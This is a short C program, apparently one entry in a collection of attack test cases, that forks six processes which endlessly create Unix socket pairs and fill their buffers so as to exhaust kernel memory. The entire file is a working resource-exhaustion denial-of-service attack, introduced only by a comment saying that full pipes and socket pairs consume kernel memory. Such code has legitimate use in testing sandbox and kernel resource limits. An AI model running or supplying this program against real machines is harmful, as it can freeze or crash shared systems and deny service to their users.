/* Full pipes and socket pairs are memory of the kernel's. */
#include "../attack.h"
int main(void)
{
    static char block[1 << 16];
    for (int i = 0; i < 6; i++) {
        if (fork() == 0) {
            int s[2];
            while (socketpair(AF_UNIX, SOCK_STREAM, 0, s) == 0) { fcntl(s[0], F_SETFL, O_NONBLOCK); while (write(s[0], block, sizeof block) > 0) ; }
            pause();
        }
    }
    sleep(2); return 0;
}
